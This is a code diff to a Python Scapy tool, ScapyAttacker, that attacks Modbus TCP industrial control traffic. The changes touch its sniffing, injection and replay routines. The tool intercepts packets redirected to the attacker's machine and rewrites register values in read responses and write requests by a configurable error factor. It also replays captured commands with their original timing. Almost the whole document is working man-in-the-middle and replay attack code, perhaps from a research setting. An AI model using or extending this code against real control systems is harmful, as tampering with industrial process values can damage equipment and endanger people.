@@ -1,8 +1,12 @@
 import argparse
+import logging
+import sys
+import time
 
 #from matplotlib.backends.backend_pdf import Reference
 from scapy.layers.inet import IP
 from scapy.layers.l2 import ARP, Ether
+from scapy.sendrecv import send, sniff, srp
 from ModbusPackets import *
 from NetworkNode import NetworkNode
 from ModbusCommand import ModbusCommand
@@ -17,6 +21,13 @@ class ScapyAttacker:
     sniff_time = None
     error = 0
     modbus_base = ModbusBase()
+    local_mac = None
+
+    @staticmethod
+    def get_local_mac():
+        if ScapyAttacker.local_mac is None:
+            ScapyAttacker.local_mac = Ether().src
+        return ScapyAttacker.local_mac
 
     @staticmethod
     def discovery(dst):
@@ -91,29 +102,34 @@ class ScapyAttacker:
 
     @staticmethod
     def sniff_callback(pkt):
-        if not pkt['Ethernet'].dst.endswith(Ether().src):
+        if not pkt['Ethernet'].dst.endswith(ScapyAttacker.get_local_mac()):
+            return
+
+        if not pkt.haslayer('TCP'):
             return
 
-        if not pkt.haslayer('TCP') or len(pkt['TCP'].payload) <= 0:     # sniffing TCP payload is not possible
+        load = getattr(pkt['TCP'].payload, 'load', b'')
+        if len(load) < MODBUS_TCP_STRUCT.size:     # sniffing TCP payload is not possible
             return
 
-        tcp_packet = ModbusTCP(pkt['TCP'].payload.load)
-        if tcp_packet.Length == 6 or tcp_packet.Length == 11:
-            if tcp_packet.Length == 6:
-                modbus_packet = ModbusReadRequestOrWriteResponse(tcp_packet.payload.load)
+        length = MODBUS_TCP_STRUCT.unpack_from(load)[2]
+        if (length == 6 or length == 11) and len(load) >= MODBUS_TCP_STRUCT.size + length - 1:
+            if length == 6:
+                function_code, reference, word_cnt = MODBUS_READ_REQUEST_STRUCT.unpack_from(load, MODBUS_TCP_STRUCT.size)
                 value = 0
-                if modbus_packet.Command == ModbusCommand.command_write_multiple_registers:
+                if function_code == ModbusCommand.command_write_multiple_registers:
                     return
-            else:  # tcp_packet.Length == 11:
-                modbus_packet = ModbusWriteRequest(tcp_packet.payload.load)
-                value = ScapyAttacker.modbus_base.decode([modbus_packet.Data0, modbus_packet.Data1])
+            else:  # length == 11:
+                function_code, reference, word_cnt, byte_cnt, data0, data1 = \
+                    MODBUS_WRITE_REQUEST_STRUCT.unpack_from(load, MODBUS_TCP_STRUCT.size)
+                value = ScapyAttacker.modbus_base.decode([data0, data1])
 
             command = ModbusCommand(
                 pkt['IP'].src,
                 pkt['IP'].dst,
                 pkt['TCP'].dport,
-                modbus_packet.Command,
-                int(modbus_packet.Reference) /2,    # 2 in the work_num
+                function_code,
+                int(reference) /2,    # 2 in the work_num
                 value,
                 value,
 
@@ -125,7 +141,7 @@ class ScapyAttacker:
     @staticmethod
     def inject_callback(pkt):
 
-        if not pkt['Ethernet'].dst.endswith(Ether().src):
+        if not pkt['Ethernet'].dst.endswith(ScapyAttacker.get_local_mac()):
             return
 
         if not pkt.haslayer('IP'):
@@ -134,40 +150,35 @@ class ScapyAttacker:
         new_packet = IP(dst=pkt['IP'].dst, src=pkt['IP'].src)
         new_packet['IP'].payload = pkt['IP'].payload
 
+        tcp_payload = new_packet['TCP'].payload if new_packet.haslayer('TCP') else None
+        load = getattr(tcp_payload, 'load', b'')
 
+        if load:
+            length = MODBUS_TCP_STRUCT.unpack_from(load)[2] if len(load) >= MODBUS_TCP_STRUCT.size else 0
+            if (length == 7 or length == 11) and len(load) >= MODBUS_TCP_STRUCT.size + length - 1:
+                reference = 0
+                if length == 7:
+                    function_code, byte_cnt, data0, data1 = \
+                        MODBUS_READ_RESPONSE_STRUCT.unpack_from(load, MODBUS_TCP_STRUCT.size)
+                else:  # length == 11:
+                    function_code, reference, word_cnt, byte_cnt, data0, data1 = \
+                        MODBUS_WRITE_REQUEST_STRUCT.unpack_from(load, MODBUS_TCP_STRUCT.size)
 
-        if new_packet.haslayer('TCP') and len(new_packet['TCP'].payload) > 0:
-            tcp_packet = ModbusTCP(pkt['TCP'].payload.load)
-            if tcp_packet.Length == 7 or tcp_packet.Length == 11:
-                if tcp_packet.Length == 7:
-                    modbus_packet = ModbusReadResponse(tcp_packet.payload.load)
-                else:  # tcp_packet.Length == 11:
-                    modbus_packet = ModbusWriteRequest(tcp_packet.payload.load)
-
-                value = ScapyAttacker.modbus_base.decode([modbus_packet.Data0, modbus_packet.Data1])
+                value = ScapyAttacker.modbus_base.decode([data0, data1])
 
                 new_value = value + (value * ScapyAttacker.error)
                 values = ScapyAttacker.modbus_base.encode(new_value)
 
-                offset = len(new_packet['TCP'].payload.load) - 4
-                new_packet['TCP'].payload.load = (
-                        new_packet['TCP'].payload.load[:offset] +
-                        values[0].to_bytes(2, 'big') +
-                        values[1].to_bytes(2, 'big'))
-
-                reference = 0
-                if tcp_packet.Length == 11:
-                    reference = modbus_packet.Reference
+                tcp_payload.load = load[:-MODBUS_REGISTERS_STRUCT.size] + MODBUS_REGISTERS_STRUCT.pack(values[0], values[1])
 
                 command = ModbusCommand(
                     pkt['IP'].src,
                     pkt['IP'].dst,
                     pkt['TCP'].dport,
-                    modbus_packet.Command,
+                    function_code,
                     reference,
                     value,
-                    new_value,
-                    datetime.now().timestamp()
+                    new_value
                 )
                 ScapyAttacker.sniff_commands.append(command)
 
@@ -183,7 +194,7 @@ class ScapyAttacker:
     @staticmethod
     def start_sniff(sniff_callback_func, filter_string, timeout):
         ScapyAttacker.clear_sniffed()
-        ScapyAttacker.sniff_time = datetime.now().timestamp()
+        ScapyAttacker.sniff_time = time.monotonic()
         sniff(prn=sniff_callback_func, filter=filter_string, timeout=timeout)
         print()
 
@@ -248,9 +259,9 @@ class ScapyAttacker:
 
         for i in range(replay_cnt):
             print("Replaying {}".format(i))
-            start = datetime.now().timestamp()
+            start = time.monotonic()
             for command in ScapyAttacker.sniff_commands:
-                delay = (command.time - ScapyAttacker.sniff_time) - (datetime.now().timestamp() - start)
+                delay = (command.time - ScapyAttacker.sniff_time) - (time.monotonic() - start)
                 if delay > 0:
                     time.sleep(delay)
                 command.send_fake()